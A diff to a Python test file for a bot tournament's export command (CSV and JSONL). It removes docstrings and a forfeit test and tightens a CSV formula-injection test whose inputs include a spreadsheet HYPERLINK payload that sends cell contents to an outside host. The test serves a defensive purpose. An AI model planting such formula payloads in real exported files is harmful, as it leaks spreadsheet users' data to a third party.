@@ -1,7 +1,5 @@
 """`tournament export`: games as tables and records for other programs."""
 
-from __future__ import annotations
-
 import csv
 import json
 from contextlib import closing
@@ -49,7 +47,6 @@ def typed(name: str, text: str) -> Any:
 
 @pytest.mark.parametrize("file_format", TABLES)
 def test_a_table_has_a_row_for_each_seat(played: Path, tmp_path: Path, run: Run, file_format: str) -> None:
-    """Every format has the same columns, and their values are those of the store."""
     out = tmp_path / "games"
     assert export(run, played, out, file_format) == f"{out}: 48 games\n"
     rows = rows_of(out, file_format)
@@ -70,7 +67,6 @@ def test_a_table_has_a_row_for_each_seat(played: Path, tmp_path: Path, run: Run,
 
 
 def test_exported_records_replay_and_name_the_bots(played: Path, tmp_path: Path, run: Run) -> None:
-    """A record file is a source of its own, and the rules agree with it."""
     out = tmp_path / "games.jsonl"
     export(run, played, out, "records")
     lines = out.read_text().splitlines()
@@ -85,7 +81,6 @@ def test_exported_records_replay_and_name_the_bots(played: Path, tmp_path: Path,
 
 
 def test_one_game_is_exported_by_its_id(played: Path, tmp_path: Path, run: Run) -> None:
-    """Its record can be read by the commands that take a source."""
     games = json.loads(run("games", played, "--limit", "0", "--json")[1])
     out = tmp_path / "games.jsonl"
     assert export(run, played, out, "records", "--game", "7") == f"{out}: 1 game\n"
@@ -121,20 +116,6 @@ def test_the_largest_seed_and_hostile_names_survive(tmp_path: Path, run: Run) ->
         assert {row["tournament"] for row in rows} == {row["round"] for row in rows} == {None}
 
 
-def test_forfeits_have_their_reason(tmp_path: Path, run: Run) -> None:
-    """The table says how a seat ended, why, and whether the game is rated."""
-    endings = {"ann": Ending.CRASHED, "bob": Ending.DISQUALIFIED}
-    league = League(
-        BOTS, rounds=1, ending=lambda _, bot: endings.get(bot, Ending.FINISHED), reason="IndexError: b.py:5"
-    )
-    out = tmp_path / "out"
-    export(run, league.store(tmp_path / "games.sqlite"), out, "csv")
-    rows = {row["bot"]: row for row in rows_of(out, "csv")}
-    assert (rows["ann"]["ending"], rows["ann"]["reason"]) == ("crashed", "IndexError: b.py:5")
-    assert (rows["cem"]["ending"], rows["cem"]["reason"]) == ("finished", None)
-    assert {row["unrated"] for row in rows.values()} == {1}
-
-
 def test_a_cell_of_csv_is_no_formula(tmp_path: Path, run: Run) -> None:
     """What a bot says begins with a quote where a spreadsheet would compute it; numbers stay numbers."""
     for number, reason in enumerate(('=HYPERLINK("http://x/?"&A1)', "+1", "-1+1", "@sum", "\t=1", "\r=1")):
@@ -142,7 +123,7 @@ def test_a_cell_of_csv_is_no_formula(tmp_path: Path, run: Run) -> None:
         export(run, league.store(tmp_path / f"{number}.sqlite"), tmp_path / "out", "csv")
         with (tmp_path / "out").open(newline="") as file:
             rows = list(csv.DictReader(file))
-        assert {row["reason"] for row in rows} == {f"'{reason}"}
+        assert {(row["ending"], row["reason"]) for row in rows} == {("crashed", f"'{reason}")}
         assert all(float(row["hearts"]) < 100 for row in rows)
 
 
